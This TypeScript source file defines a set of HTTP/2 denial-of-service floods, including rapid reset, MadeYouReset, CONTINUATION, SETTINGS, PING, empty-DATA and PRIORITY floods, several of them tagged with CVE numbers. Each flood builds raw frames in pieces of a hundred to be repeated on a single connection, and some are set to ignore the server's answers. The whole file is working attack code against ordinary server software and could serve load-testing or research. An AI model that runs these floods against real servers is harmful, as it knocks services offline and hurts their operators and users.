import { callHeaders } from "./call-headers.ts";
import { dataFrame, flag, frame, frameType, headerBlock, headersFrame, resetFrame } from "./frames.ts";
import { settingsFrame, windowUpdateFrame } from "./frames.ts";

/** Frames that are cheap to send, repeated on one connection. */
export interface Flood {
  readonly name: string;
  readonly what: string;
  /** Frames that are sent first, for a call of this path. */
  readonly opening?: (path: string) => Buffer;
  /** The frames of piece `number`, from 0: up to several hundred. */
  readonly piece: (number: number, path: string) => Buffer;
  /** Whether the sender does not read the answers. */
  readonly isDeaf?: boolean;
}

const framesInPiece = 100;
const fragmentBytes = 8 * 1024;
const headerTableSize = 1;
const noError = 0;

const repeated = (bytes: Buffer) => Buffer.concat(Array.from({ length: framesInPiece }, () => bytes));
const blockOf = (path: string) => headerBlock(callHeaders(path));

/** Client streams have odd numbers, and each is used once. */
const streamOf = (number: number, index: number) => 1 + 2 * (number * framesInPiece + index);

function forStreams(number: number, framesOf: (stream: number) => readonly Buffer[]): Buffer {
  const streams = Array.from({ length: framesInPiece }, (_, index) => streamOf(number, index));
  return Buffer.concat(streams.flatMap(framesOf));
}

export const floods: readonly Flood[] = [
  {
    name: "rapid-reset",
    what: "calls that are cancelled as soon as they are opened (CVE-2023-44487)",
    piece: (number, path) => {
      const block = blockOf(path);
      return forStreams(number, (stream) => [headersFrame(stream, block), resetFrame(stream)]);
    },
  },
  {
    name: "errorless-reset",
    what: "calls that are reset with NO_ERROR within their message",
    piece: (number, path) => {
      const block = blockOf(path);
      const part = Buffer.from([0, 0, 0, 0, 100, 0]);
      return forStreams(number, (stream) => [
        headersFrame(stream, block),
        dataFrame(stream, part),
        resetFrame(stream, noError),
      ]);
    },
  },
  {
    name: "made-you-reset",
    what: "calls that the server must cancel because of window updates of 0 (CVE-2025-8671)",
    piece: (number, path) => {
      const block = blockOf(path);
      return forStreams(number, (stream) => [headersFrame(stream, block), windowUpdateFrame(stream, 0)]);
    },
  },
  {
    name: "continuation",
    what: "headers that never end (CVE-2024-27316)",
    opening: (path) => headersFrame(1, blockOf(path), 0),
    piece: (number) =>
      frame({
        type: frameType.continuation,
        stream: 1,
        payload: headerBlock({ [`x-${number}`]: "x".repeat(fragmentBytes) }),
      }),
  },
  {
    name: "settings",
    what: "SETTINGS, each of which must be acknowledged (CVE-2019-9515); the answers are not read",
    piece: () => repeated(settingsFrame(headerTableSize, 4096)),
    isDeaf: true,
  },
  {
    name: "ping",
    what: "PING, each of which must be answered (CVE-2019-9512); the answers are not read",
    piece: () => repeated(frame({ type: frameType.ping, payload: Buffer.alloc(8) })),
    isDeaf: true,
  },
  {
    name: "window-update",
    what: "WINDOW_UPDATE of one byte for the connection",
    piece: () => repeated(windowUpdateFrame(0, 1)),
  },
  {
    name: "empty-data",
    what: "DATA without data, of a call that never ends (CVE-2019-9518)",
    opening: (path) => headersFrame(1, blockOf(path)),
    piece: () => repeated(dataFrame(1, Buffer.alloc(0))),
  },
  {
    name: "priority",
    what: "PRIORITY of one call after the other (CVE-2019-9513)",
    piece: (number) =>
      forStreams(number, (stream) => [frame({ type: frameType.priority, stream, payload: Buffer.alloc(5) })]),
  },
  {
    name: "headers",
    what: "calls of an unknown method; the answers are not read",
    piece: (number) => {
      const block = blockOf("/no/method");
      return forStreams(number, (stream) => [headersFrame(stream, block, flag.endHeaders | flag.endStream)]);
    },
    isDeaf: true,
  },
];
